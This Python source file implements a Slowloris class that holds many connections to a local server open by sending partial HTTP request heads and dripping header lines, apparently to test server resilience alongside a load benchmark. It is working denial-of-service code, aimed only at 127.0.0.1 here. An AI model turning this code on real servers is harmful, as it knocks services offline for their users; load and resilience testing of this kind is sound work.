"""A slowloris beside a load: connections that each send the start of a request head and
then one more header line every few seconds, never finishing it, reopened when the server
closes them (as the attack does). It measures nothing itself; the load beside it does.

    with Slowloris(port, 500) as attack:
        ...                       # run the load
    attack.held, attack.reopened  # connections open at the end, and reopened in all
"""

from __future__ import annotations

import socket
import threading

from servers import HOST

DRIP_SECONDS = 5.0  # between two header lines on one connection


class Slowloris:
    def __init__(self, port: int, connections: int, drip: float = DRIP_SECONDS):
        self.port, self.connections, self.drip = port, connections, drip
        self.held, self.reopened, self.failed = 0, 0, 0
        self._socks: list[socket.socket | None] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def __enter__(self) -> Slowloris:
        self._socks = [self._open() for _ in range(self.connections)]
        self._thread.start()
        return self

    def __exit__(self, *_exc) -> None:
        self._stop.set()
        self._thread.join()
        self.held = sum(1 for s in self._socks if s is not None)
        for s in self._socks:
            if s is not None:
                s.close()

    def _open(self) -> socket.socket | None:
        try:
            s = socket.create_connection(("127.0.0.1", self.port), timeout=5)
            s.sendall(f"GET /hello.php HTTP/1.1\r\nHost: {HOST}\r\n".encode())
            return s
        except OSError:
            self.failed += 1
            return None

    def _run(self) -> None:
        line = 0
        while not self._stop.wait(self.drip):
            line += 1
            for i, s in enumerate(self._socks):
                if self._stop.is_set():
                    return
                try:
                    if s is None:
                        raise OSError("not open")
                    s.sendall(f"X-Slow-{line}: 1\r\n".encode())
                except OSError:
                    if s is not None:
                        s.close()
                    self.reopened += 1
                    self._socks[i] = self._open()

    def summary(self) -> str:
        return (f"slowloris: {self.connections} connections, {self.held} held at the end, "
                f"{self.reopened} reopened, {self.failed} connects failed")
